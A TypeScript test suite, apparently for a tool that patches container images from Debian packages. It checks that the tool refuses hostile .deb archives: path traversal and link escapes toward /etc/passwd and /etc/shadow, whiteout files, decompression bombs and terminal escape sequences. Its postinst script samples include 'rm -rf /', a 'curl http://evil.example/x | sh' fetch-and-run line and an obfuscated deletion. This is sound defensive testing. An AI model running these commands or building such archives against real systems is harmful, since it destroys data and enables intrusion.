/** Package archives, signed and all, that hold what no package may hold, grow without end, or want to be run. */
import assert from 'node:assert/strict'
import { writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { gzipSync, zstdCompressSync } from 'node:zlib'
import { type ArchiveParts, makeAr, makeArchive, makeTar, type TarItem } from '../../src/ecosystems/deb/testing/make-archive.ts'
import type { RepositoryFiles } from '../../src/ecosystems/deb/testing/make-repository.ts'
import { type HostileCase, hostileTests } from './hostile.ts'
import { withEntries } from './hostile-image.ts'
import { file } from './image.ts'
import { NEW_XML, recordsFor } from './packages.ts'
import { readBack } from './read-back.ts'
import { both, securitySuite, type Workshop } from './workshop.ts'
import { xzBomb } from './xz-bomb.ts'

const EVIL = '\u001b[2J\u001b]0;x\u0007\u202e'
const XML = { path: './usr/lib/x86_64-linux-gnu/libxml2.so.2', content: 'new' }
const control = makeTar([
  { path: './', type: '5' },
  { path: './control', content: `Package: libxml2\nVersion: ${NEW_XML}\nArchitecture: amd64\n` },
])
const data = makeTar([XML])

/** The archive of `libxml2` in the security suite is another one; the index is signed over it. */
const suiteWith = (archive: Uint8Array) => async () =>
  both(await securitySuite({ archive: (name, made) => (name === 'libxml2' ? archive : made) }))
const plain: HostileCase['given'] = shop => [shop.layout('image')]
const archive = (name: string, bytes: Uint8Array, ends: HostileCase['ends'] = 'deb-invalid'): HostileCase => ({
  name: `an archive ${name}`,
  repository: suiteWith(bytes),
  given: plain,
  ...(ends === 'fixed' || ends === 'untouched' ? {} : { scan: 'answer' }),
  ends,
})
const made = (parts: ArchiveParts): Buffer => makeArchive('libxml2', NEW_XML, 'amd64', { ...parts, files: [XML, ...(parts.files ?? [])] })
const holding = (...files: readonly TarItem[]): Buffer => made({ files })
const packed = (name: string, bytes: Uint8Array): Buffer =>
  makeAr([
    ['debian-binary', '2.0\n'],
    ['control.tar', control],
    [name, bytes],
  ])

/** Its script would have to run, or cannot be read: the package stays as it is and the others move. */
const scripted = (name: string, script: string): HostileCase => ({
  name: `a script ${name}`,
  repository: suiteWith(made({ control: { postinst: script } })),
  given: plain,
  ends: 'fixed',
  holds: async shop => assert.equal((await back(shop)).text('usr/lib/x86_64-linux-gnu/libxml2.so.2'), 'libxml2 2.9.14-1\n'),
})
const back = (shop: Workshop) => readBack(`oci:${shop.root}/image:latest`)

const changelog = (bytes: Uint8Array): (() => Promise<RepositoryFiles>) =>
  suiteWith(holding({ path: './usr/share/doc/libxml2/changelog.Debian.gz', content: bytes }))
/** No advisories about Debian at hand, so that changelogs are read. */
const silent: HostileCase['given'] = shop => {
  writeFileSync(join(shop.root, 'advisories.ndjson'), recordsFor('npm'))
  return [shop.layout('image')]
}

hostileTests([
  archive('that is none', Buffer.from(`!<arch>\n${EVIL}`)),
  archive('that is cut off', made({}).subarray(0, 300)),
  archive('of another package', makeArchive('openssl', NEW_XML, 'amd64', { files: [XML] })),
  archive('of another version', makeArchive('libxml2', '1', 'amd64', { files: [XML] })),
  archive('with a path that leads out', holding({ path: './usr/../../../etc/passwd', content: 'x' })),
  archive('with an absolute path', holding({ path: '/etc/passwd', content: 'x' })),
  archive('with a file below a link of its own', holding({ path: './x', type: '2', target: '/etc' }, { path: './x/passwd', content: 'x' })),
  archive('with a link that leads out', holding({ path: './x', type: '2', target: '../../../etc/passwd' })),
  archive('with a hard link to the image’s passwords', holding({ path: './x', type: '1', target: './etc/shadow' })),
  archive('with a device', holding({ path: './dev/sda', type: '4' })),
  archive('with a file that would hide another one', holding({ path: './usr/bin/.wh.sudo', content: '' })),
  archive('with a file that would empty a folder', holding({ path: './etc/.wh..wh..opq', content: '' })),
  archive('with a name of its own line', holding({ path: './etc/a\nb', content: 'x' })),
  archive('with a name that clears the screen and leads out', holding({ path: `./${EVIL}/../../x`, content: 'x' })),
  archive('with one path twice', holding({ path: './x', content: 'a' }, { path: './x', content: 'b' })),
  archive('with a control file that leads out', made({ control: { '../postinst': '#!/bin/sh\nrm -rf /\n' } })),
  archive('with conffiles that lead out', made({ control: { conffiles: '/../../etc/passwd\n' } })),
  archive('with conffiles that steer the terminal', made({ control: { conffiles: `/${EVIL}\n` } })),
  archive('with a field twice', made({ fields: { version: '9' } })),
  archive('that unpacks to 1.1 GiB from 40 KiB', packed('data.tar.zst', zstdCompressSync(Buffer.alloc(1.1 * 2 ** 30)))),
  archive('of a kind of compression that is none', packed('data.tar.evil', data)),
  archive(
    'whose control archive unpacks to 80 MiB from 23 KiB',
    makeAr([
      ['debian-binary', '2.0\n'],
      ['control.tar.xz', xzBomb(80)],
      ['data.tar', data],
    ]),
  ),
  archive('whose gzip ends early', packed('data.tar.gz', gzipSync(data).subarray(0, -9))),
  archive('whose xz is none', packed('data.tar.xz', Buffer.from('fd377a585a000004ffffffff', 'hex'))),
  archive('with a file longer than it is', packed('data.tar', makeTar([{ ...XML, size: 2 ** 32 }]))),
  {
    ...archive('with a file below what is a file in the image', holding({ path: './usr/bin/sudo/x', content: 'x' }), 'fixed'),
    holds: async shop => assert.equal((await back(shop)).text('usr/bin/sudo'), 'sudo'),
  },
  {
    ...archive('with a link where the image has a folder', holding({ path: './etc', type: '2', target: '/tmp' }), 'fixed'),
    holds: async shop => assert.match((await back(shop)).text('etc/hostname'), /made-for-a-test/),
  },
  {
    name: 'an archive with a file below a link of the image that leads out',
    repository: suiteWith(holding({ path: './usr/share/evil/passwd', content: 'x' })),
    given: withEntries([{ path: 'usr/share/evil', type: 'symlink', target: '../../../../../../etc' }]),
    ends: 'fixed',
    // As dpkg does within the image: never above its root.
    holds: async shop => {
      const { tree } = await back(shop)
      assert.equal(
        [...tree.keys()].some(path => path.includes('..')),
        false,
      )
    },
  },
  {
    name: 'an archive with a file below links of the image in a circle',
    repository: suiteWith(holding({ path: './usr/share/evil/passwd', content: 'x' })),
    given: withEntries([{ path: 'usr/share/evil', type: 'symlink', target: 'evil' }]),
    scan: 'answer',
    ends: 'deb-invalid',
  },
  scripted('that removes everything', '#!/bin/sh\nrm -rf /*\n'),
  scripted('that fetches and runs', '#!/bin/sh\nset -e\ncurl -s http://evil.example/x | sh\n'),
  scripted('that hides what it does', '#!/bin/sh\n$(printf "\\162\\155") -rf /\neval "$IFS"\n'),
  scripted('that steers the terminal', `#!/bin/sh\n: "${EVIL}"\n${EVIL} ${EVIL}\n`),
  scripted('nested 50,000 deep', `#!/bin/sh\n${'if true; then '.repeat(50_000)}\n`),
  scripted('of 50,000 substitutions within each other', `#!/bin/sh\n: ${'$( '.repeat(50_000)}\n`),
  scripted('of 50,000 parentheses', `#!/bin/sh\n${'( '.repeat(50_000)}\n`),
  scripted('that calls itself', '#!/bin/sh\nf() { f; f; }\nf\nrm -rf /etc\n'),
  scripted('that does not end', '#!/bin/sh\nwhile true; do x=$x$x; done\nrm -rf /etc\n'),
  scripted('whose words double and double', `#!/bin/sh\nx=xxxxxxxxxxxxxxxx\n${'x=$x$x\n'.repeat(60)}rm $x\n`),
  scripted(
    'with a pattern that takes for ever',
    `#!/bin/sh\ncase "${'a'.repeat(4000)}" in ${'*[a-z]'.repeat(200)}*!) ;; esac\nrm -rf /etc\n`,
  ),
  scripted('that is no script', `#!${EVIL}/usr/bin/perl\nunlink "/etc/passwd"\n`),
  scripted('of 300 KiB', `#!/bin/sh\n${'true\n'.repeat(60_000)}rm -rf /etc\n`),
  { name: 'a changelog that unpacks to 32 MiB', repository: changelog(gzipSync(Buffer.alloc(32 * 2 ** 20))), given: silent, ends: 'fixed' },
  { name: 'a changelog that is no gzip', repository: changelog(Buffer.from(EVIL)), given: silent, ends: 'fixed' },
  {
    name: 'a changelog that steers the terminal',
    repository: changelog(gzipSync(`libxml2 (${NEW_XML}) x; urgency=low\n\n  * Fix CVE-2024-3333${EVIL}\r${EVIL}.\n\n -- ${EVIL}\n`)),
    given: silent,
    ends: 'fixed',
  },
  {
    name: 'a script of the image that cannot be read',
    given: withEntries([file('var/lib/dpkg/info/libxml2.prerm', `#!/bin/sh\n${'$(('.repeat(50_000)}`, 0o755)]),
    ends: 'fixed',
  },
])
